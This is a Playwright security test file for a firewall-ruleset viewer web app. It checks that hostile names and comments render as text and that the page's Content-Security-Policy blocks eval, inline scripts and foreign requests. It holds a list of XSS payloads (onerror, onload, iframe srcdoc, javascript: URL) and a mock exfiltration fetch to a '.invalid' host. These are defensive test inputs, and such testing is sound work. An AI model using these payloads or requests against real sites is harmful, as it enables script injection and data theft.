// The page under hostile input and its own policy: names, comments and diagnostics carrying HTML/JS are shown
// as text and run nothing; the built page ships a Content-Security-Policy without 'unsafe-eval' under which
// Monaco, its worker and the parse worker still work. (Foreign requests fail every test: helpers.ts.)
import type { Page } from '@playwright/test';
import { buildPermalink } from '../src/share/permalink.ts';
import { editorLines, expect, notices, openApp, outline, pasteIntoEditor, selectSource, sourceNames, test } from './helpers.ts';

/** Each payload sets window.__xss when it runs, whichever way it gets into the DOM. */
const PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=2</script>',
  '<svg onload="window.__xss=3"></svg>',
  '"><iframe srcdoc="<script>parent.__xss=4</script>">',
  'javascript:window.__xss=5',
];

/** An `nft -j` dump whose table, chain and set names, rule comments and element texts are the payloads. */
export function hostileJsonDump(): string {
  const [a, b, c, d, e] = PAYLOADS as [string, string, string, string, string];
  const nftables: unknown[] = [
    { metainfo: { version: '1.0.6', release_name: 'Lester Gooch #5', json_schema_version: 1 } },
    { table: { family: 'ip', name: a, handle: 1 } },
    { set: { family: 'ip', name: c, table: a, type: 'ipv4_addr', handle: 2, comment: b } },
    { chain: { family: 'ip', table: a, name: 'input', handle: 3, type: 'filter', hook: 'input', prio: 0, policy: 'accept' } },
    { chain: { family: 'ip', table: a, name: d, handle: 4 } },
    {
      rule: {
        family: 'ip', table: a, chain: 'input', handle: 5, comment: e + b,
        expr: [{ match: { op: '==', left: { payload: { protocol: 'tcp', field: 'dport' } }, right: 22 } }, { jump: { target: d } }],
      },
    },
    { rule: { family: 'ip', table: a, chain: d, handle: 6, expr: [{ [b]: null }] } },
  ];
  return JSON.stringify({ nftables }, null, 1);
}

/** Records CSP violations from the first script on (an init script runs before the page's own). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}

async function assertNothingRan(page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  // No element from the payloads exists outside the editor's own rendering.
  expect(await page.evaluate(() => document.querySelectorAll('[onerror], [onload], iframe, img[src="x"]').length)).toBe(0);
}

test('names, comments and unknown words with HTML/JS are shown as text and run nothing', async ({ page }) => {
  await openApp(page);
  await pasteIntoEditor(page, hostileJsonDump());
  // The table's name shows in the outline literally.
  await expect(outline(page).getByRole('treeitem').filter({ hasText: PAYLOADS[0] }).first()).toBeVisible();
  await expect(editorLines(page).filter({ hasText: 'onerror' }).first()).toBeVisible();
  // Open every collapsed node so that each name, comment and message is rendered.
  for (let round = 0; round < 4; round++) {
    const closed = outline(page).locator('[role="treeitem"][aria-expanded="false"]');
    const n = await closed.count();
    for (let i = 0; i < n; i++) await closed.nth(0).click().then(() => closed.nth(0).press('ArrowRight')).catch(() => undefined);
  }
  await expect(page.getByText(PAYLOADS[3]!, { exact: false }).first()).toBeAttached();
  await page.waitForTimeout(300);
  await assertNothingRan(page);
});

test('the built page ships a CSP without unsafe-eval, and Monaco and the workers work under it', async ({ page }) => {
  const consoleErrors: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error' && /Content.Security.Policy|unsafe-eval/i.test(m.text())) consoleErrors.push(m.text());
  });
  await recordViolations(page);
  await openApp(page);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
  // The parse worker answers (the outline follows a paste) and Monaco's tokenizer colours the text.
  await pasteIntoEditor(page, 'table inet csp_check {\n  chain input {\n    type filter hook input priority 0; policy drop;\n  }\n}\n');
  await expect(outline(page).getByRole('treeitem').filter({ hasText: 'csp_check' }).first()).toBeVisible();
  await expect(editorLines(page).filter({ hasText: 'csp_check' }).first()).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).toEqual([]);
  expect(consoleErrors).toEqual([]);
  // String eval (a timer with a string) and an inline script are refused by the page's policy. (Playwright's own
  // evaluate is exempt from CSP, so the code under test is handed to the page's timer and DOM.)
  await page.evaluate(() => {
    (setTimeout as unknown as (code: string, ms: number) => void)('window.__evalRan = 1', 0);
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = 1';
    document.head.append(s);
  });
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => [(window as unknown as { __evalRan?: 1 }).__evalRan, (window as unknown as { __inlineRan?: 1 }).__inlineRan])).toEqual([undefined, undefined]);
  const refused = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations.splice(0));
  expect(refused.join('\n')).toMatch(/script-src/);
});

test("the CSP refuses a request to another origin even if page code tried one (connect-src 'self')", async ({ page }) => {
  await recordViolations(page);
  await openApp(page);
  const outcome = await page.evaluate(() =>
    fetch('http://nflens-csp-probe.invalid/leak', { method: 'POST', body: 'ruleset' }).then(
      () => 'sent',
      (e: unknown) => `refused: ${String(e)}`,
    ),
  );
  expect(outcome).toMatch(/^refused/);
  const violations = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
  expect(violations.join('\n')).toContain('connect-src http://nflens-csp-probe.invalid/leak');
});

test('a shared link whose source names, dump and packet carry HTML/JS opens as text and runs nothing', async ({ page }) => {
  const [a, b] = PAYLOADS as [string, string];
  const iptables = ['*filter', ':INPUT ACCEPT [0:0]', `-A INPUT -i eth0 -m comment --comment "${b.replace(/"/g, "'")}" -j ACCEPT`, 'COMMIT', ''].join('\n');
  const link = buildPermalink({
    sources: [
      { name: a, format: 'nft-json', text: hostileJsonDump() },
      { name: b, format: 'iptables', text: iptables },
    ],
    packet: `iifname "${a.replace(/"/g, "'")}" ip saddr 10.0.0.1 ip daddr 10.0.0.2 tcp dport 22`,
  });
  await page.goto(`/#${link.fragment}`);
  await expect(notices(page).getByText('Opened a shared workspace')).toBeVisible();
  expect(await sourceNames(page)).toEqual([a, b]);
  await expect(outline(page).getByRole('treeitem').filter({ hasText: PAYLOADS[0]! }).first()).toBeVisible();
  await selectSource(page, a);
  await expect(editorLines(page).filter({ hasText: 'onerror' }).first()).toBeVisible();
  await page.waitForTimeout(300);
  await assertNothingRan(page);

  // The other views render the same names (graph labels, trace steps, pipeline lanes): as text too.
  for (const view of ['Graph', 'Trace', 'Pipeline']) {
    await page.getByRole('tab', { name: view, exact: true }).click();
    await expect(page.getByRole('tab', { name: view, exact: true })).toHaveAttribute('aria-selected', 'true');
    if (view === 'Graph') {
      await expect(page.getByTestId('graph-canvas').locator('.react-flow__node').first()).toBeVisible();
      await expect(page.getByTestId('graph-canvas').getByText(PAYLOADS[0]!, { exact: false }).first()).toBeAttached();
    }
    if (view === 'Trace') await expect(page.getByText(PAYLOADS[0]!, { exact: false }).first()).toBeAttached();
    await page.waitForTimeout(300);
    await assertNothingRan(page);
  }
});
